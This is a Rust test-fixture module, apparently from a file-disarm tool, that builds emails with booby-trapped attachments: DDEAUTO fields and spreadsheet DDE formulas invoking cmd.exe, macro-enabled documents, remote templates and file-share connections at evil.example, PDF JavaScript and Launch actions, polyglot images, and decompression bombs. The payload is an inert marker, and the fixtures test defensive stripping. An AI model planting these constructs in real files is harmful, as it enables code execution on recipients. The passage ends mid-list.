//! Inputs for the file-disarm cases, made by our own code so that every byte is known. The
//! `disarm_*.eml` files under `tests/data/` are these messages; `fixtures_are_reproducible`
//! checks that they still are (set `MAMORI_WRITE_FIXTURES=1` to write them again).

use std::io::{Cursor, Write};

/// Bytes that must never reach the output.
pub const PAYLOAD: &[u8] = b"EVIL-PAYLOAD-7f3a9c";

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xffff_ffffu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn png_chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
    let mut body = kind.to_vec();
    body.extend_from_slice(data);
    out.extend_from_slice(&body);
    out.extend_from_slice(&crc32(&body).to_be_bytes());
}

/// A small zip archive holding the payload, as appended to polyglot images.
pub fn payload_zip() -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Stored)
        .last_modified_time(zip::DateTime::default());
    w.start_file("run.bat", options).expect("zip entry");
    w.write_all(PAYLOAD).expect("zip data");
    w.finish().expect("zip").into_inner()
}

/// 8×8 RGB PNG with a tEXt and an eXIf chunk, and a zip archive after IEND.
pub fn png_with_metadata() -> Vec<u8> {
    let mut out = Vec::new();
    let mut e = png::Encoder::new(&mut out, 8, 8);
    e.set_color(png::ColorType::Rgb);
    e.set_depth(png::BitDepth::Eight);
    let mut w = e.write_header().expect("png header");
    let mut text = b"Comment\0".to_vec();
    text.extend_from_slice(PAYLOAD);
    w.write_chunk(png::chunk::ChunkType(*b"tEXt"), &text)
        .expect("tEXt");
    let mut exif = b"MM\0*\0\0\0\x08".to_vec();
    exif.extend_from_slice(PAYLOAD);
    w.write_chunk(png::chunk::ChunkType(*b"eXIf"), &exif)
        .expect("eXIf");
    let pixels: Vec<u8> = (0..8 * 8 * 3).map(|i| (i * 7 % 256) as u8).collect();
    w.write_image_data(&pixels).expect("png data");
    w.finish().expect("png");
    out.extend_from_slice(&payload_zip());
    out
}

/// A PNG whose header declares 100000×100000 pixels (a decompression bomb).
pub fn png_huge() -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    png_chunk(&mut out, b"IHDR", &ihdr);
    png_chunk(
        &mut out,
        b"IDAT",
        &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01],
    );
    png_chunk(&mut out, b"IEND", &[]);
    out
}

/// 16×16 JPEG with an EXIF APP1 and an APP13 segment, and a zip archive after EOI.
pub fn jpeg_with_metadata() -> Vec<u8> {
    let mut out = Vec::new();
    let mut e = jpeg_encoder::Encoder::new(&mut out, 85);
    let mut exif = b"Exif\0\0MM\0*\0\0\0\x08".to_vec();
    exif.extend_from_slice(PAYLOAD);
    e.add_app_segment(1, exif).expect("APP1");
    let mut ps = b"Photoshop 3.0\0".to_vec();
    ps.extend_from_slice(PAYLOAD);
    e.add_app_segment(13, ps).expect("APP13");
    let pixels: Vec<u8> = (0..16 * 16 * 3).map(|i| (i * 5 % 256) as u8).collect();
    e.encode(&pixels, 16, 16, jpeg_encoder::ColorType::Rgb)
        .expect("jpeg");
    out.extend_from_slice(&payload_zip());
    out
}

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .last_modified_time(zip::DateTime::default());
    for (name, data) in entries {
        w.start_file(*name, options).expect("zip entry");
        w.write_all(data).expect("zip data");
    }
    w.finish().expect("zip").into_inner()
}

const DOCM_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/><Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/><Override PartName="/word/activeX/activeX1.bin" ContentType="application/vnd.ms-office.activeX"/><Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>"#;

const DOCM_ROOT_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility" Target="customUI/customUI.xml"/></Relationships>"#;

const DOCM_DOCUMENT: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:r><w:t>令和8年度 予算要求資料</w:t></w:r></w:p><w:p><w:hyperlink r:id="rId3"><w:r><w:t>詳細</w:t></w:r></w:hyperlink></w:p></w:body></w:document>"#;

const DOCM_DOCUMENT_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="activeX/activeX1.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://evil.example/&amp;x" TargetMode="External"/><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/><Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/></Relationships>"#;

const DOCM_SETTINGS_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;

const ACTIVEX_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/></Relationships>"#;

/// A .docm with a VBA project, an ActiveX control, an embedded OLE object, custom UI, an
/// external hyperlink and an external (remote) template.
pub fn docm() -> Vec<u8> {
    let mut vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    vba.extend_from_slice(PAYLOAD);
    zip_of(&[
        ("[Content_Types].xml", DOCM_TYPES.as_bytes()),
        ("_rels/.rels", DOCM_ROOT_RELS.as_bytes()),
        ("word/document.xml", DOCM_DOCUMENT.as_bytes()),
        ("word/_rels/document.xml.rels", DOCM_DOCUMENT_RELS.as_bytes()),
        ("word/styles.xml", b"<w:styles xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>"),
        ("word/settings.xml", b"<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>"),
        ("word/_rels/settings.xml.rels", DOCM_SETTINGS_RELS.as_bytes()),
        ("word/vbaProject.bin", &vba),
        ("word/activeX/activeX1.xml", b"<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>"),
        ("word/activeX/_rels/activeX1.xml.rels", ACTIVEX_RELS.as_bytes()),
        ("word/activeX/activeX1.bin", PAYLOAD),
        ("word/embeddings/oleObject1.bin", PAYLOAD),
        ("customUI/customUI.xml", b"<customUI onLoad=\"EvilMacro\"/>"),
    ])
}

/// Looks like a .docx, but one entry inflates 16 MiB of zeros from a few kilobytes.
pub fn zip_bomb_docx() -> Vec<u8> {
    let types = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
    let zeros = vec![0u8; 16 * 1024 * 1024];
    zip_of(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("word/document.xml", &zeros),
    ])
}

const XML_DECL: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>"#;
const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const W_NS: &str = r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships""#;
const X_NS: &str = r#"xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships""#;
const WORD_MAIN: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const WORD_HEADER: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml";
const EXCEL_MAIN: &str =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const EXCEL_SHEET: &str =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";

/// `[Content_Types].xml` with the `rels` and `xml` defaults, the given defaults (extension,
/// type) and overrides (part name, type).
fn content_types(defaults: &[(&str, &str)], overrides: &[(&str, &str)]) -> String {
    let mut s = format!(
        r#"{XML_DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>"#
    );
    for (ext, t) in defaults {
        s.push_str(&format!(
            r#"<Default Extension="{ext}" ContentType="{t}"/>"#
        ));
    }
    for (part, t) in overrides {
        s.push_str(&format!(
            r#"<Override PartName="{part}" ContentType="{t}"/>"#
        ));
    }
    s.push_str("</Types>");
    s
}

/// A relationship part: (id, type, target); a target with `://` is external.
fn relationships(list: &[(&str, &str, &str)]) -> String {
    let mut s = format!(
        r#"{XML_DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">"#
    );
    for (id, kind, target) in list {
        let mode = if target.contains("://") {
            r#" TargetMode="External""#
        } else {
            ""
        };
        s.push_str(&format!(
            r#"<Relationship Id="{id}" Type="{kind}" Target="{target}"{mode}/>"#
        ));
    }
    s.push_str("</Relationships>");
    s
}

fn payload() -> String {
    String::from_utf8_lossy(PAYLOAD).into_owned()
}

/// A .docx that imports an MHT document (an HTML page with an OLE object) into its body and an
/// RTF document (an embedded object) into its header through `w:altChunk`; the MHT part's type
/// is a default for `.mht`, the RTF part's an override.
pub fn docx_alt_chunk() -> Vec<u8> {
    let p = payload();
    let types = content_types(
        &[("mht", "message/rfc822")],
        &[
            ("/word/document.xml", WORD_MAIN),
            ("/word/header1.xml", WORD_HEADER),
            ("/word/chunk2.rtf", "application/rtf"),
        ],
    );
    let root = relationships(&[(
        "rId1",
        &format!("{REL}/officeDocument"),
        "word/document.xml",
    )]);
    let document = format!(
        r#"{XML_DECL}<w:document {W_NS}><w:body><w:p><w:r><w:t>令和8年度 事業計画</w:t></w:r></w:p><w:altChunk r:id="rId2"><w:altChunkPr><w:matchSrc/></w:altChunkPr></w:altChunk><w:p><w:r><w:t>以上</w:t></w:r></w:p><w:sectPr><w:headerReference w:type="default" r:id="rId3"/></w:sectPr></w:body></w:document>"#
    );
    let document_rels = relationships(&[
        ("rId2", &format!("{REL}/aFChunk"), "afchunk1.mht"),
        ("rId3", &format!("{REL}/header"), "header1.xml"),
    ]);
    let header = format!(
        r#"{XML_DECL}<w:hdr {W_NS}><w:altChunk r:id="rId1"/><w:p><w:r><w:t>庁内限り</w:t></w:r></w:p></w:hdr>"#
    );
    let header_rels = relationships(&[("rId1", &format!("{REL}/aFChunk"), "chunk2.rtf")]);
    let mht = format!(
        "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><body><object classid=\"clsid:00000000-0000-0000-0000-000000000000\" data=\"{p}\"></object></body></html>\r\n"
    );
    let rtf = format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata 01050000{p}}}}}}}");
    zip_of(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/document.xml.rels", document_rels.as_bytes()),
        ("word/header1.xml", header.as_bytes()),
        ("word/_rels/header1.xml.rels", header_rels.as_bytes()),
        ("word/afchunk1.mht", mht.as_bytes()),
        ("word/chunk2.rtf", rtf.as_bytes()),
    ])
}

fn w_run(text: &str) -> String {
    format!("<w:r><w:t>{text}</w:t></w:r>")
}

fn w_instr(text: &str) -> String {
    format!(r#"<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>"#)
}

fn w_char(kind: &str) -> String {
    format!(r#"<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>"#)
}

/// A .docx with DDE fields whose results read 結果A to 結果D: a simple field, a complex field
/// whose instruction is split over two runs, one whose instruction a nested QUOTE field spells,
/// and a simple field in the header; and a PAGE field and a MERGEFIELD, which stay.
pub fn docx_dde_fields() -> Vec<u8> {
    let p = payload();
    let cmd = format!(r#"c:\\windows\\system32\\cmd.exe &quot;/k {p}&quot;"#);
    let types = content_types(
        &[],
        &[
            ("/word/document.xml", WORD_MAIN),
            ("/word/header1.xml", WORD_HEADER),
        ],
    );
    let root = relationships(&[(
        "rId1",
        &format!("{REL}/officeDocument"),
        "word/document.xml",
    )]);
    let simple = format!(
        r#"<w:p><w:fldSimple w:instr=" DDEAUTO {cmd} ">{}</w:fldSimple></w:p>"#,
        w_run("結果A")
    );
    let split = format!(
        "<w:p>{}{}{}{}{}{}</w:p>",
        w_char("begin"),
        w_instr(" DD"),
        w_instr(&format!("EAUTO {cmd} ")),
        w_char("separate"),
        w_run("結果B"),
        w_char("end")
    );
    let quoted = format!(
        "<w:p>{}{}{}{}{}{}{}{}{}{}</w:p>",
        w_char("begin"),
        w_char("begin"),
        w_instr("QUOTE 68 68 69 65 85 84 79"),
        w_char("separate"),
        w_run("DDEAUTO"),
        w_char("end"),
        w_instr(&format!(" {cmd} ")),
        w_char("separate"),
        w_run("結果C"),
        w_char("end")
    );
    let ordinary = format!(
        r#"<w:p>{}{}{}{}{}<w:fldSimple w:instr=" MERGEFIELD 氏名 ">{}</w:fldSimple></w:p>"#,
        w_char("begin"),
        w_instr(" PAGE "),
        w_char("separate"),
        w_run("1"),
        w_char("end"),
        w_run("«氏名»")
    );
    let document = format!(
        r#"{XML_DECL}<w:document {W_NS}><w:body>{simple}{split}{quoted}{ordinary}<w:sectPr><w:headerReference w:type="default" r:id="rId2"/></w:sectPr></w:body></w:document>"#
    );
    let document_rels = relationships(&[("rId2", &format!("{REL}/header"), "header1.xml")]);
    let header = format!(
        r#"{XML_DECL}<w:hdr {W_NS}><w:p><w:fldSimple w:instr="DDE {cmd}">{}</w:fldSimple></w:p></w:hdr>"#,
        w_run("結果D")
    );
    zip_of(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/document.xml.rels", document_rels.as_bytes()),
        ("word/header1.xml", header.as_bytes()),
    ])
}

/// An .xlsx with a DDE link (`externalLink1`), a link to another workbook on a file share
/// (`externalLink2`), cell formulas that use them (`cmd|'…'!A0`, `[1]!…` shared by two cells,
/// `[2]Sheet1!A1`), a defined name that runs DDE, and a calculation chain; and an ordinary
/// formula, a string holding `|` and a defined name, which stay.
pub fn xlsx_dde_links() -> Vec<u8> {
    let p = payload();
    let types = content_types(
        &[],
        &[
            ("/xl/workbook.xml", EXCEL_MAIN),
            ("/xl/worksheets/sheet1.xml", EXCEL_SHEET),
            (
                "/xl/externalLinks/externalLink1.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
            ),
            (
                "/xl/externalLinks/externalLink2.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
            ),
            (
                "/xl/calcChain.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml",
            ),
        ],
    );
    let root = relationships(&[("rId1", &format!("{REL}/officeDocument"), "xl/workbook.xml")]);
    let workbook = format!(
        r#"{XML_DECL}<workbook {X_NS}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/><externalReference r:id="rId3"/></externalReferences><definedNames><definedName name="run">cmd|'/c {p}'!A0</definedName><definedName name="total">Sheet1!$C$1</definedName></definedNames></workbook>"#
    );
    let workbook_rels = relationships(&[
        ("rId1", &format!("{REL}/worksheet"), "worksheets/sheet1.xml"),
        (
            "rId2",
            &format!("{REL}/externalLink"),
            "externalLinks/externalLink1.xml",
        ),
        (
            "rId3",
            &format!("{REL}/externalLink"),
            "externalLinks/externalLink2.xml",
        ),
        ("rId4", &format!("{REL}/calcChain"), "calcChain.xml"),
    ]);
    let sheet = format!(
        r#"{XML_DECL}<worksheet {X_NS}><sheetData><row r="1"><c r="A1"><f>cmd|' /c {p}'!A0</f><v>0</v></c><c r="B1"><f>[2]Sheet1!A1</f><v>5</v></c><c r="C1"><f>SUM(1,2)</f><v>3</v></c><c r="D1" t="str"><f>"a|b"</f><v>a|b</v></c></row><row r="2"><c r="A2"><f t="shared" ref="A2:A3" si="0">[1]!'!A0'</f><v>0</v></c></row><row r="3"><c r="A3"><f t="shared" si="0"/><v>0</v></c></row></sheetData></worksheet>"#
    );
    let dde = format!(
        r#"{XML_DECL}<externalLink {X_NS}><ddeLink ddeService="cmd" ddeTopic="/c {p}"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>"#
    );
    let book = format!(
        r#"{XML_DECL}<externalLink {X_NS}><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>"#
    );
    let book_rels = relationships(&[(
        "rId1",
        &format!("{REL}/externalLinkPath"),
        "file://evil.example/share/book.xlsx",
    )]);
    let chain = format!(
        r#"{XML_DECL}<calcChain {X_NS}><c r="A1" i="1"/><c r="B1"/><c r="C1"/><c r="A2"/><c r="A3"/></calcChain>"#
    );
    zip_of(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        ("xl/workbook.xml", workbook.as_bytes()),
        ("xl/_rels/workbook.xml.rels", workbook_rels.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
        ("xl/externalLinks/externalLink1.xml", dde.as_bytes()),
        ("xl/externalLinks/externalLink2.xml", book.as_bytes()),
        (
            "xl/externalLinks/_rels/externalLink2.xml.rels",
            book_rels.as_bytes(),
        ),
        ("xl/calcChain.xml", chain.as_bytes()),
    ])
}

/// An .xlsx with a data connection that queries a database on a file share when it opens.
pub fn xlsx_connections() -> Vec<u8> {
    let p = payload();
    let types = content_types(
        &[],
        &[
            ("/xl/workbook.xml", EXCEL_MAIN),
            ("/xl/worksheets/sheet1.xml", EXCEL_SHEET),
            (
                "/xl/connections.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
            ),
        ],
    );
    let root = relationships(&[("rId1", &format!("{REL}/officeDocument"), "xl/workbook.xml")]);
    let workbook = format!(
        r#"{XML_DECL}<workbook {X_NS}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#
    );
    let workbook_rels = relationships(&[
        ("rId1", &format!("{REL}/worksheet"), "worksheets/sheet1.xml"),
        ("rId2", &format!("{REL}/connections"), "connections.xml"),
    ]);
    let sheet = format!(
        r#"{XML_DECL}<worksheet {X_NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>売上</t></is></c></row></sheetData></worksheet>"#
    );
    let connections = format!(
        r#"{XML_DECL}<connections {X_NS}><connection id="1" name="売上" type="1" refreshOnLoad="1" background="1" saveData="1"><dbPr connection="DRIVER={{Microsoft Access Driver (*.mdb)}};DBQ=\\evil.example\share\{p}.mdb" command="SELECT * FROM t"/></connection></connections>"#
    );
    zip_of(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        ("xl/workbook.xml", workbook.as_bytes()),
        ("xl/_rels/workbook.xml.rels", workbook_rels.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
        ("xl/connections.xml", connections.as_bytes()),
    ])
}

/// A PDF file from its objects, with a correct cross-reference table.
pub fn pdf_of(objects: &[&[u8]], trailer_extra: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, o) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(o);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for off in offsets {
        out.extend_from_slice(format!("{off:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R {trailer_extra}>>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// A one-page PDF with every kind of active content the disarm removes, a web link among them.
pub fn pdf_active() -> Vec<u8> {
    let content = b"BT /F1 12 Tf 20 100 Td (Hello mamori) Tj ET";
    let content_obj = [
        format!("<< /Length {} >>\nstream\n", content.len()).as_bytes(),
        content,
        b"\nendstream",
    ]
    .concat();
    let xfa = b"<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><script>evil()</script></xdp:xdp>";
    let xfa_obj = [
        format!("<< /Length {} >>\nstream\n", xfa.len()).as_bytes(),
        xfa,
        b"\nendstream",
    ]
    .concat();
    let mut exe = b"MZ".to_vec();
    exe.extend_from_slice(PAYLOAD);
    let exe_obj = [
        format!("<< /Type /EmbeddedFile /Length {} >>\nstream\n", exe.len()).as_bytes(),
        &exe,
        b"\nendstream",
    ]
    .concat();
    pdf_of(
        &[
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 6 0 R /EmbeddedFiles 8 0 R >> /AcroForm << /Fields [] /XFA 10 0 R >> /AA << /WC 5 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [11 0 R 12 0 R] /AA << /O 7 0 R >> >>",
            &content_obj,
            b"<< /S /JavaScript /JS (app.alert\\('EVIL-PAYLOAD-7f3a9c'\\)) >>",
            b"<< /Names [(js) 5 0 R] >>",
            b"<< /S /Launch /F (cmd.exe) /Next << /S /JavaScript /JS (this.exportDataObject\\(\\)) >> >>",
            b"<< /Names [(a.exe) 9 0 R] >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 13 0 R >> >>",
            &xfa_obj,
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.city.example.lg.jp/) >> >>",
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 20 20] /FS 9 0 R >>",
            &exe_obj,
        ],
        "",
    )
}

/// A one-page PDF whose links open web addresses: a link annotation with a URI action written
/// in it, one whose action is an object of its own (its `/S` spelt `/U#52I`), an internal link
/// whose action continues (`/Next`) to a URI, and an outline item whose `/S` refers to a name
/// object. The internal link's own `GoTo` is kept.
pub fn pdf_uri_links() -> Vec<u8> {
    let content = b"BT /F1 12 Tf 20 100 Td (Hello mamori) Tj ET";
    let content_obj = [
        format!("<< /Length {} >>\nstream\n", content.len()).as_bytes(),
        content,
        b"\nendstream",
    ]
    .concat();
    let payload = String::from_utf8_lossy(PAYLOAD);
    let inline = format!(
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://evil.example/{payload}/inline) >> >>"
    );
    let next = format!(
        "<< /Type /Annot /Subtype /Link /Rect [20 20 30 30] /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/{payload}/next) >> >> >>"
    );
    let outline = format!(
        "<< /Title (Portal) /Parent 8 0 R /A << /S 11 0 R /URI (https://evil.example/{payload}/outline) >> >>"
    );
    let indirect = format!("<< /S /U#52I /URI (https://evil.example/{payload}/indirect) >>");
    pdf_of(
        &[
            b"<< /Type /Catalog /Pages 2 0 R /Outlines 8 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [5 0 R 6 0 R 7 0 R] >>",
            &content_obj,
            inline.as_bytes(),
            b"<< /Type /Annot /Subtype /Link /Rect [10 10 20 20] /A 10 0 R >>",
            next.as_bytes(),
            b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
            outline.as_bytes(),
            indirect.as_bytes(),
            b"/URI",
        ],
        "",
    )
}

/// A PDF encrypted (RC4, 40-bit) with a user password.
pub fn pdf_encrypted() -> Vec<u8> {
    let plain = pdf_of(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        ],
        "/ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] ",
    );
    let mut doc = lopdf::Document::load_mem(&plain).expect("plain pdf loads");
    let version = lopdf::EncryptionVersion::V1 {
        document: &doc,
        owner_password: "owner",
        user_password: "secret",
        permissions: lopdf::Permissions::all(),
    };
    let state = lopdf::EncryptionState::try_from(version).expect("encryption state");
    doc.encrypt(&state).expect("encrypt");
    let mut out = Vec::new();
    doc.save_to(&mut out).expect("save");
    out
}

/// Starts like a PDF, then nothing a PDF reader could use.
pub fn pdf_corrupt() -> Vec<u8> {
    let mut out =
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ("
            .to_vec();
    out.extend_from_slice(PAYLOAD);
    out.extend_from_slice(b") >>\n garbage without end");
    out
}

fn b64_lines(bytes: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::new();
    for (i, c) in bytes.chunks(3).enumerate() {
        if i > 0 && i % 19 == 0 {
            s.push_str("\r\n");
        }
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        s.push(T[(n >> 18) as usize & 63] as char);
        s.push(T[(n >> 12) as usize & 63] as char);
        s.push(if c.len() > 1 {
            T[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        s.push(if c.len() > 2 {
            T[n as usize & 63] as char
        } else {
            '='
        });
    }
    s
}

/// A message with a short Japanese text and the given attachments (name, declared type, bytes).
pub fn mail(subject: &str, files: &[(&str, &str, Vec<u8>)]) -> Vec<u8> {
    let mut m = format!(
        "From: Sender <sender@example.jp>\r\nTo: staff@city.example.lg.jp\r\n\
         Date: Thu, 26 Nov 2026 10:00:00 +0900\r\nMessage-ID: <{subject}@example.jp>\r\n\
         Subject: {subject}\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"=_b\"\r\n\r\n\
         --=_b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
         資料を添付します。\r\n"
    )
    .into_bytes();
    for (name, declared, bytes) in files {
        m.extend_from_slice(
            format!(
                "--=_b\r\nContent-Type: {declared}\r\n\
                 Content-Disposition: attachment; filename=\"{name}\"\r\n\
                 Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
                b64_lines(bytes)
            )
            .as_bytes(),
        );
    }
    m.extend_from_slice(b"--=_b--\r\n");
    m
}

/// The committed corpus inputs and how each is made.
pub fn corpus_inputs() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        (
            "disarm_png_metadata_polyglot",
            mail("png", &[("photo.png", "image/png", png_with_metadata())]),
        ),
        (
            "disarm_jpeg_exif",
            mail("jpeg", &[("photo.jpg", "image/jpeg", jpeg_with_metadata())]),
        ),
        (
            "disarm_docm_macros",
            mail(
                "docm",
                &[(
                    "report.docm",
                    "application/vnd.ms-word.document.macroEnabled.12",
                    docm(),
                )],
            ),
        ),
        (
            "disarm_pdf_active_content",
            mail("pdf", &[("form.pdf", "application/pdf", pdf_active())]),
        ),
        (
            "disarm_pdf_uri_links",
            mail(
